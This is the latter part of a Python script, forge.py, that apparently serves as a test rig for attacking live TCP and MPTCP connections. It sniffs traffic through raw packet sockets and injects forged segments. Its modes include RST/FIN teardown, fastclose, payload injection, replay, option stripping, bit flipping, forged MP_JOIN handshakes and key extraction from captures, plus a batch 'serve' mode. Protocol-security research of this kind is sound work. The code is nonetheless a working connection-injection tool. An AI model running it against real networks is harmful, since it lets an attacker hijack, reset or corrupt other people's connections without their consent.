        if left <= 0 or not select.select([rsock], [], [], left)[0]:
            return None
        frame, sa = rsock.recvfrom(1 << 18)
        if sa[2] == PACKET_OUTGOING:
            continue
        try:
            r = Segment(frame, l2len)
        except (ValueError, IndexError, struct.error):
            continue
        if r.dport == info["from_port"]:
            return r


def main():
    ap = argparse.ArgumentParser(description="forge segments into a live TCP/MPTCP connection")
    ap.add_argument("--iface")
    ap.add_argument("--attack", required=True,
                    choices=["payload", "rst", "fin", "datafin", "fastclose", "replay",
                             "strip", "bitflip"] + list(SIGNALS) +
                    ["join-syn", "join-replay", "hs-replay", "keys"])
    ap.add_argument("--dport", type=int)
    ap.add_argument("--sport", type=int)
    ap.add_argument("--src")
    ap.add_argument("--dst")
    ap.add_argument("--count", type=int, default=1)
    ap.add_argument("--timeout", type=float, default=10.0)
    ap.add_argument("--len", type=int, default=0, help="payload attack: bytes per segment")
    ap.add_argument("--delay", type=float, default=0.0, help="seconds between capture and first send")
    ap.add_argument("--interval", type=float, default=0.01, help="seconds between sends")
    ap.add_argument("--direction", choices=["out", "any"], default="out")
    ap.add_argument("--pcap", help="a recording: keys, recorded join SYN or handshake")
    ap.add_argument("--secopt", choices=["none", "copy", "fresh", "random"], default="none",
                    help="kind-253 option of signal and join forgeries")
    ap.add_argument("--fresh-pn", action="store_true",
                    help="move the captured MPTCPsec option's PN 8192 ahead first")
    ap.add_argument("--addr", help="addaddr: the announced address")
    ap.add_argument("--addr-id", type=int, default=23, help="addaddr, join-syn: address ID")
    ap.add_argument("--addr-port", type=int, default=0, help="addaddr: announced port")
    ap.add_argument("--hmac", choices=["random", "pcap"], default="random")
    ap.add_argument("--ids", default="1", help="rmaddr: address IDs, comma separated")
    ap.add_argument("--backup", type=int, choices=[0, 1], default=1)
    ap.add_argument("--reason", type=int, default=1, help="tcprst: MP_TCPRST reason code")
    ap.add_argument("--key", default="random", help="fastclose: random, pcap or 16 hex digits")
    ap.add_argument("--token", help="join-syn: 8 hex digits, or pcap")
    ap.add_argument("--from", dest="from_addr", help="join-syn, join-replay: source address")
    ap.add_argument("--from-port", type=int, default=0)
    ap.add_argument("--new-port", action="store_true", help="join-replay: fresh source ports")
    ap.add_argument("--stages", default="syn,synack,ack,data",
                    help="hs-replay: which recorded segments, comma separated")
    ap.add_argument("--reply-wait", type=float, default=0.0,
                    help="join-syn: seconds to wait for each answer")
    ap.add_argument("--complete", action="store_true",
                    help="join-syn: answer a SYN-ACK with the MP_JOIN third ACK")
    args = ap.parse_args()
    if args.attack == "keys":
        if not args.pcap:
            ap.error("keys needs --pcap")
        return cmd_keys(args)
    if not args.iface:
        ap.error("--iface is required")
    if args.attack not in FROM_PCAP and args.sport is None and args.dport is None:
        ap.error("--sport or --dport is required")
    if args.count < 1:
        ap.error("--count must be at least 1")
    if (args.attack in FROM_PCAP or args.hmac == "pcap" or args.key == "pcap" or
            args.token == "pcap" or args.complete) and not args.pcap:
        ap.error("--pcap is required")
    if args.attack == "join-syn" and not (args.from_addr and args.token):
        ap.error("join-syn needs --from and --token")
    if args.complete:
        args.reply_wait = args.reply_wait or 2.0

    try:
        mtu = int(open("/sys/class/net/%s/mtu" % args.iface).read())
    except OSError as e:
        print("forge.py: %s: %s" % (args.iface, e), file=sys.stderr)
        return 2
    args.recorded, args.conns = [], []
    if args.pcap:
        try:
            linktype, args.recorded = read_pcap(args.pcap)
        except (OSError, ValueError) as e:
            print("forge.py: %s" % e, file=sys.stderr)
            return 2
        args.conns = mpc_conns(args.recorded)
        if args.attack in FROM_PCAP and linktype != 1:
            print("forge.py: %s: replays need an Ethernet recording" % args.pcap, file=sys.stderr)
            return 2

    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
    sock.bind((args.iface, 0))
    skipped = {"oversize": 0, "inbound": 0, "unsuitable": 0, "unparsed": 0}
    if args.attack in FROM_PCAP:
        todo = recorded_segments(args)
        what = "no suitable segment recorded in %s" % args.pcap
    else:
        attach_filter(sock, bpf_filter(args), args.iface)
        seg = sniff_one(sock, args, mtu, skipped)
        if seg and args.fresh_pn:
            move_pn(seg, 8192)
        todo = [(seg, None)] if seg else []
        what = "no suitable segment within %gs" % args.timeout
    if not todo:
        print(json.dumps({"sent": 0, "attack": args.attack, "skipped": skipped, "error": what}))
        sock.close()
        return 1

    rsock = None
    if args.attack == "join-syn" and args.reply_wait > 0:
        rsock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        rsock.bind((args.iface, 0))
        attach_filter(rsock, "tcp and dst host %s" % args.from_addr, args.iface)
    if args.delay > 0:
        time.sleep(args.delay)
    sent, replies = 0, {}
    for seg, stage in todo:
        for k in range(args.count):
            try:
                frame, info = forge(seg, args.attack, k, args, mtu)
            except ValueError as e:
                print("forge.py: %s" % e, file=sys.stderr)
                sock.close()
                return 2
            sock.send(frame)
            sent += 1
            out = Segment(frame, len(seg.l2))
            line = {"n": sent, "attack": args.attack, "family": seg.family,
                    "src": out.addr(out.src), "sport": out.sport, "dst": out.addr(out.dst),
                    "dport": out.dport, "seq": out.seq, "ack": out.ack,
                    "flags": flag_str(out.flags), "len": len(out.payload),
                    "opts": out.opts.hex(), "bytes": len(frame)}
            if stage:
                line["stage"] = stage
            line.update({k2: v for k2, v in info.items() if k2 not in line})
            if rsock:
                r = wait_reply(rsock, len(seg.l2), info, args.reply_wait)
                line["reply"] = flag_str(r.flags) if r else None
                replies[line["reply"]] = replies.get(line["reply"], 0) + 1
                if r and r.flags & (SYN | ACK) == SYN | ACK and args.complete:
                    ack, ainfo = join_ack(seg, info, r, args)
                    line.update(ainfo)
                    if ack:
                        sock.send(ack)
                        line["join_ack"] = Segment(ack, len(seg.l2)).opts.hex()
            print(json.dumps(line), flush=True)
            if args.interval > 0 and k + 1 < args.count:
                time.sleep(args.interval)
    sock.close()
    if rsock:
        rsock.close()
    seg = todo[0][0]
    end = {"sent": sent, "attack": args.attack, "captured": seg.summary(),
           "captured_csum_ok": tcp_checksum(seg, seg.tcp + seg.payload) == seg.tcp_csum,
           "skipped": skipped}
    if args.attack == "join-syn" and rsock:
        end["replies"] = replies
    print(json.dumps(end))
    return 0


def serve(work, ready):
    """Run forge.py once per line of stdin (see "serve" above)."""
    open(os.path.join(work, ready), "w").close()
    for line in sys.stdin:
        words = shlex.split(line)
        if not words:
            continue
        name, args = words[0], words[1:]
        base = os.path.join(work, name)
        t = time.monotonic()
        with open(base + ".out", "w") as out, open(base + ".err", "w") as err:
            sys.stdout, sys.stderr, sys.argv = out, err, ["forge.py"] + args
            try:
                rc = main()
            except SystemExit as e:
                rc = e.code if isinstance(e.code, int) else 2
            except Exception as e:  # reported, and the next run goes on
                print("forge.py serve: %r" % e, file=err)
                rc = 3
            sys.stdout, sys.stderr = sys.__stdout__, sys.__stderr__
        print("%s rc %s in %.1f s" % (name, rc, time.monotonic() - t), flush=True)
        with open(base + ".rc.tmp", "w") as f:
            f.write("%d\n" % rc)
        os.rename(base + ".rc.tmp", base + ".rc")
    return 0


if __name__ == "__main__":
    if len(sys.argv) == 4 and sys.argv[1] == "serve":
        sys.exit(serve(sys.argv[2], sys.argv[3]))
    sys.exit(main())
